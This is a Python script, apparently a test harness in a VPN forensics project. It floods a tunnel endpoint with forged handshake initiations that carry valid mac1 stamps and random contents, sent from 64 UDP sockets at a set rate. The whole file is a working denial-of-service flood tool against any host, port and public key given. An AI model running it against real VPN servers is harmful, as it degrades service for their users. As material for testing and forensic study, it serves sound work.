"""A flood of forged initiations: right mac1, rubbish inside, from many ports.

``python flood.py PUBLIC_KEY HOST PORT COUNT RATE_HZ``.
"""

from __future__ import annotations

import random
import socket
import sys
import time

from vpnforensics.reftunnel.cookie import MacStamper
from vpnforensics.reftunnel.keys import PublicKey


def main(key: str, target: tuple[str, int], count: int, rate_hz: float) -> None:
    chance = random.Random(1)
    stamper = MacStamper(PublicKey.from_text(key))
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(64)]
    start = time.monotonic()
    for number in range(count):
        if number % 100 == 0:
            time.sleep(max(0.0, start + number / rate_hz - time.monotonic()))
        message = stamper.stamp(b"\1\0\0\0" + chance.randbytes(112), 0.0)
        socks[number % 64].sendto(message, target)


if __name__ == "__main__":
    main(sys.argv[1], (sys.argv[2], int(sys.argv[3])), int(sys.argv[4]), float(sys.argv[5]))
